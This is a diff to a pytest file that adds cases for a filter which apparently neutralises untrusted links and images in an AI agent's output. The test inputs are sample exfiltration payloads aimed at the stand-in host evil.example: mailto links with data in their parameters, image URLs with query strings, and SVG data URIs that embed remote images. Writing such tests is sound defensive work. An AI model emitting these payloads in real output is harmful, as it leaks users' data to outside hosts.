@@ -228,6 +228,16 @@ async def test_found_data_labels_the_run_too() -> None:
 DEFUSED = rule("mask", "untrusted_link", on="result")
 
 
+def svg(inner: str) -> str:
+    document = f'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 8 8">{inner}</svg>'
+    return f"data:image/svg+xml;base64,{base64.b64encode(document.encode()).decode()}"
+
+
+QUOTED_SVG = "data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg'%3E%3Cuse href='//evil.example/#a'/%3E"
+IMAGE = '<image href="https://evil.example/p?q=1"/>'
+SVG, LONG_SVG, PLAIN_SVG = svg(IMAGE), svg("<path d='M0 0'/>" * 200 + IMAGE), svg("<path d='M0 0'/>")
+
+
 @pytest.mark.parametrize(
     ("text", "shown"),
     [
@@ -241,10 +251,21 @@ DEFUSED = rule("mask", "untrusted_link", on="result")
             "![x](https://evil.example/1)(https://evil.example/2)",
             "[image defused: evil.example] (https://evil.example/2)",
         ),
+        ("[mail us](mailto:eve@evil.example?body=data) now", "mail us [link defused: evil.example] now"),
+        ("or mailto:eve@evil.example?subject=data.", "or [link defused: evil.example]."),
+        ("[mail us](mailto:ann@before.example?bcc=eve%40evil.example)", "mail us [link defused: evil.example]"),
+        ("[mail us](mailto:eve@evil.example)", "[mail us](mailto:eve@evil.example)"),
+        ("[mail us](mailto:ann@before.example?subject=hello)", "[mail us](mailto:ann@before.example?subject=hello)"),
+        (f"![x]({SVG})", "[image defused: evil.example]"),
+        (f'<object data="{SVG}"></object>', "[image defused: evil.example]</object>"),
+        (f"![x]({LONG_SVG})", "![x]( [image defused: evil.example])"),
+        (f'<img src="{QUOTED_SVG}">', "[image defused: evil.example]"),
+        ("<img alt='https://before.example/' src='https://evil.example/p'>", "[image defused: evil.example]"),
+        (f"![x]({PLAIN_SVG})", f"![x]({PLAIN_SVG})"),
         ("![logo](https://mail.corp.example/l.png)", "![logo](https://mail.corp.example/l.png)"),
         ("![known](https://before.example/l.png)", "![known](https://before.example/l.png)"),
     ],
-    ids=lambda text: text[:30],
+    ids=range(20),
 )
 async def test_links_to_new_hosts_are_taken_apart(text: str, shown: str) -> None:
     agent = Worst(DEFUSED)
